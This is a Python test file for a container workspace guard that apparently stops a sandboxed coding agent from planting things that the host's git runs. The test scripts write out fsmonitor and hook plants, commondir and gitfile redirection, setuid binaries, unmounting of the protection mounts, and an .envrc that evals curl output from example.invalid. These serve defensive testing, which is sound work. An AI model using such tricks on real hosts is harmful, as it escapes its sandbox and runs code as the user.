"""The workspace guard on the real Incus: root in the container cannot plant what git on the host runs, git still
works inside, what changed is reported at the end, setuid bits are cleared, nested mounts are checked."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from cci_core.config import Config, Override, load_config
from cci_core.context import Mount
from cci_core.driver import ContainerSpec
from cci_core.errors import BackendError
from cci_core.plugin_manager import load_plugins
from cci_core.session import LaunchRequest, SessionManager
from cci_builtin_plugins.incus.driver import IncusDriver
from tests import incus_env
from tests.integration.conftest import remove_containers, run_cci, status_of, unique_name

if TYPE_CHECKING:
    import pylxd

pytestmark = pytest.mark.incus

USER = incus_env.TEST_USER


def as_user(*argv: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run a command on the host as the test user, as they would in their workspace."""
    env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": f"/home/{USER}", "LANG": "C.UTF-8", "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(["runuser", "-u", USER, "--", *argv], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=60, check=False)


@pytest.fixture
def workspace(driver: IncusDriver) -> Iterator[Path]:
    """A git repository of the test user's, with a local remote and the host's git for the container.

    The test image has no git; the host's (same Debian) runs there from the workspace.
    """
    root = Path("/tmp") / f"cci-guard-{os.getpid()}-{unique_name()}"
    workspace = root / "ws"
    tools = workspace / ".tools"
    tools.mkdir(parents=True)
    remote = tools / "remote.git"  # in the workspace, so that the container sees it too
    shutil.copy2("/usr/bin/git", tools / "git")
    (tools / "git-upload-pack").symlink_to("git")
    (workspace / ".gitignore").write_text(".tools/\n")
    for argv in (["git", "init", "-q", "--bare", "-b", "main", str(remote)],
                 ["git", "init", "-q", "-b", "main", str(workspace)]):
        subprocess.run(argv, check=True)
    git = ["git", "-C", str(workspace), "-c", "user.email=u@example.invalid", "-c", "user.name=u"]
    subprocess.run([*git, "remote", "add", "origin", ".tools/remote.git"], check=True)
    subprocess.run([*git, "add", ".gitignore"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "first"], check=True)
    subprocess.run(["git", "-C", str(workspace), "push", "-q", str(remote), "main"], check=True)
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(root)], check=True)
    try:
        yield workspace
    finally:
        # a failed test may leave its session behind
        remove_containers(driver, lambda info: info.labels.get("workspace") == str(workspace))
        shutil.rmtree(root)


def cci_run(workspace: Path, cci_environ: dict[str, str], script: str) -> subprocess.CompletedProcess[str]:
    env = {**cci_environ, "HOME": f"/home/{USER}"}
    prelude = "cd /workspace; export PATH=/workspace/.tools:$PATH GIT_EXEC_PATH=/workspace/.tools; "
    return run_cci("--workspace", str(workspace), "run", "--", "sh", "-c", prelude + script, env=env, user=USER)


def outcomes(stdout: str) -> dict[str, str]:
    """``name=code`` lines the script printed."""
    return dict(line.split("=", 1) for line in stdout.splitlines() if "=" in line)


PLANT = """
sudo sh -c 'printf "[core]\\n\\tfsmonitor = touch {marker}-fsmonitor\\n" >> .git/config'; echo config=$?
sudo sh -c 'printf "#!/bin/sh\\ntouch {marker}-hook\\n" > .git/hooks/pre-commit'; echo hook=$?
sudo mv .git .git-old; echo rename=$?
sudo sh -c 'rm -rf .git/hooks'; echo remove_hooks=$?
git -c user.email=a@example.invalid -c user.name=a commit -q --allow-empty -m inside; echo commit=$?
git branch feature; echo branch=$?
git checkout -q feature; echo checkout=$?
git fetch -q origin; echo fetch=$?
git config user.name agent; echo git_config=$?
"""


def test_root_inside_cannot_plant_what_git_runs_on_the_host_and_git_still_works(
        workspace: Path, cci_environ: dict[str, str]) -> None:
    marker = workspace.parent / "ran"
    config_before = (workspace / ".git/config").read_bytes()
    result = cci_run(workspace, cci_environ, PLANT.format(marker=marker))
    assert result.returncode == 0, result.stderr
    assert outcomes(result.stdout) == {"config": "2", "hook": "2", "rename": "1", "remove_hooks": "1",
                                       "commit": "0", "branch": "0", "checkout": "0", "fetch": "0",
                                       "git_config": "4"}, result.stdout + result.stderr
    assert (workspace / ".git/config").read_bytes() == config_before
    assert not (workspace / ".git/hooks/pre-commit").exists()
    assert not (workspace / ".git-old").exists()

    status = as_user("git", "status", "--short", cwd=workspace)
    commit = as_user("git", "-c", "user.email=u@example.invalid", "-c", "user.name=u", "commit", "-q",
                     "--allow-empty", "-m", "on the host", cwd=workspace)
    assert status.returncode == 0 and commit.returncode == 0, status.stderr + commit.stderr
    assert list(workspace.parent.glob("ran-*")) == []  # neither fsmonitor nor a hook ran on the host
    log = as_user("git", "log", "--format=%s", "--branches", cwd=workspace).stdout.split()
    assert log.count("inside") == 1 and "feature" in as_user("git", "branch", cwd=workspace).stdout
    assert "warning" not in result.stderr  # nothing watched changed, nothing setuid


def test_what_the_agent_made_is_reported_and_setuid_bits_are_cleared_at_the_end(
        workspace: Path, cci_environ: dict[str, str]) -> None:
    result = cci_run(workspace, cci_environ, """
        echo 'eval "$(curl -s example.invalid)"' > .envrc
        mkdir .vscode && echo '{"tasks": []}' > .vscode/tasks.json
        cp /bin/true helper && chmod 4755 helper && cp /bin/true group-helper && chmod 2755 group-helper
        stat -c '%A' helper
    """)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "-rwsr-xr-x"  # it was setuid while the session ran
    warnings = result.stderr.splitlines()
    for path, what in ((".envrc", "direnv"), (".vscode", "editor"), (".vscode/tasks.json", "editor")):
        assert any(line.startswith(f"cci: warning: workspace file {path} was created during session cci-")
                   and what in line for line in warnings), result.stderr
    for path in ("helper", "group-helper"):
        assert f"cci: warning: cleared the setuid/setgid bit of workspace file {path} (set in the container: " \
               "anyone who can reach it could have run it as you)" in warnings
        mode = (workspace / path).stat().st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID) and mode & stat.S_IXUSR
    assert len(warnings) == 5, result.stderr


def test_protection_can_be_turned_off(workspace: Path, cci_environ: dict[str, str]) -> None:
    env = {**cci_environ, "CCI_SECURITY_PROTECTED_PATHS": ""}
    result = cci_run(workspace, env, "echo '# agent' >> .git/config; echo config=$?")
    assert (result.returncode, outcomes(result.stdout)) == (0, {"config": "0"}), result.stderr
    assert result.stderr.startswith("cci: warning: workspace file .git/config was changed during session ")
    assert "core.fsmonitor" in result.stderr and len(result.stderr.splitlines()) == 1


def test_a_nested_mount_that_is_not_what_its_source_names_is_stopped_before_use(
    incus: pylxd.Client, tmp_path: Path, driver: IncusDriver
) -> None:
    """What a session of the same workspace racing a launch could do (a link swapped in while Incus mounts,
    swapped back before lxc checks the target): here a bind mount on the host makes .git another directory."""
    workspace, elsewhere = tmp_path / "ws", tmp_path / "secret"
    (workspace / ".git/hooks").mkdir(parents=True)
    (elsewhere / "hooks").mkdir(parents=True)
    subprocess.run(["mount", "--bind", str(elsewhere), str(workspace / ".git")], check=True)
    try:
        name = unique_name()
        container = driver.create(ContainerSpec(name, incus_env.IMAGE, labels={"workspace": str(workspace)}))
        container.configure({}, [
            Mount("workspace", workspace, "/workspace"), Mount("protect-git", workspace / ".git", "/workspace/.git"),
            Mount("protect-1", workspace / ".git/hooks", "/workspace/.git/hooks", readonly=True)])
        with pytest.raises(BackendError, match=f"{name} was stopped: the mount.s. protect-git did not come from"):
            container.start()
        assert status_of(incus, name) == "stopped"
    finally:
        subprocess.run(["umount", str(workspace / ".git")], check=True)


def test_a_persistent_restart_takes_the_protection_mounts_off_first(
    incus: pylxd.Client, config: Config, driver: IncusDriver
) -> None:
    """A restart runs the agent's own rootfs at once: nothing is mounted from a path it could have swapped."""
    (config.workspace / ".git/hooks").mkdir(parents=True)
    (config.workspace / ".git/config").write_text("[core]\n")
    persistent = load_config(config.workspace, environ={}, overrides=[
        Override("incus.project", incus_env.PROJECT, "t"), Override("defaults.image", incus_env.IMAGE, "t"),
        Override("defaults.persistent", True, "t")])
    manager = SessionManager(persistent, driver, load_plugins(entry_points=False))
    container, _ = manager.launch(LaunchRequest(config.workspace))
    first = instance(incus, container.name)
    assert {"protect-git", "protect-0", "protect-1"} <= set(first["devices"])
    assert first["config"]["boot.autostart"] == "false"  # Incus never starts it by itself, unchecked
    assert manager.finish(driver.get(container.name))
    restarted = manager.reuse(config.workspace)
    assert restarted is not None and restarted[0].name == container.name
    again = instance(incus, container.name)
    assert not [name for name in again["devices"] if name.startswith("protect-")]
    assert again["config"].get("user.cci.protected", "") == ""
    assert restarted[0].exec(["sh", "-c", "echo '# x' >> /workspace/.git/config"]).exit_code == 0
    reported: list[str] = []
    SessionManager(persistent, driver, load_plugins(entry_points=False), warn=reported.append).finish(
        driver.get(container.name))
    assert [line.split(":")[0] for line in reported] == [
        f"workspace file .git/config was changed during session {container.name}"]


def instance(incus: pylxd.Client, name: str) -> dict:  # type: ignore[type-arg]
    """The instance as Incus describes it (``GET /1.0/instances/NAME``), read through pylxd."""
    return dict(incus.api.instances[name].get().json()["metadata"])


def test_root_that_unmounts_the_protection_is_still_reported_at_the_end(
        workspace: Path, cci_environ: dict[str, str]) -> None:
    """The mounts are not locked in an unprivileged container (docs/security.md): the report is the backstop."""
    result = cci_run(workspace, cci_environ, """
        sudo umount /workspace/.git/config /workspace/.git/hooks; echo umount=$?
        sudo sh -c 'echo "[core] fsmonitor = true" >> .git/config && echo "#!/bin/sh" > .git/hooks/post-checkout'
        echo write=$?
    """)
    assert (result.returncode, outcomes(result.stdout)) == (0, {"umount": "0", "write": "0"}), result.stderr
    assert [line.split(" during ")[0] for line in result.stderr.splitlines()] == [
        "cci: warning: workspace file .git/config was changed",
        "cci: warning: workspace file .git/hooks/post-checkout was created"]


def test_a_commondir_and_a_nested_repository_planted_for_the_hosts_git_are_reported(
        workspace: Path, cci_environ: dict[str, str]) -> None:
    """Host git reads config and hooks from where .git/commondir points, and a 'git status' at the top goes into a
    nested repository the index names (a gitlink): neither is protected by a mount, both are reported."""
    (workspace / "lib").mkdir()
    (workspace / "lib/.git").write_text("gitdir: ../.git/modules/lib\n")  # a submodule's, from before the session
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(workspace / "lib")], check=True)
    result = cci_run(workspace, cci_environ, """
        sudo sh -c 'mkdir -p .evil/objects .evil/refs && printf "[core]\\n\\tfsmonitor = true\\n" > .evil/config &&
                    echo ../.evil > .git/commondir'; echo commondir=$?
        mkdir -p sub/.git/objects sub/.git/refs && echo "ref: refs/heads/main" > sub/.git/HEAD &&
            printf "[core]\\n\\tfsmonitor = true\\n" > sub/.git/config; echo nested=$?
        echo "gitdir: ../.evil" > lib/.git; echo gitfile=$?
    """)
    assert (result.returncode, outcomes(result.stdout)) == (0, {"commondir": "0", "nested": "0", "gitfile": "0"}), \
        result.stderr
    assert [line.split(" during ")[0] for line in result.stderr.splitlines()] == [
        "cci: warning: workspace file .git/commondir was created",
        "cci: warning: workspace git directory lib/.git was created or changed",
        "cci: warning: workspace git directory sub/.git was created or changed"], result.stderr
    assert "(config)" in result.stderr.splitlines()[2]
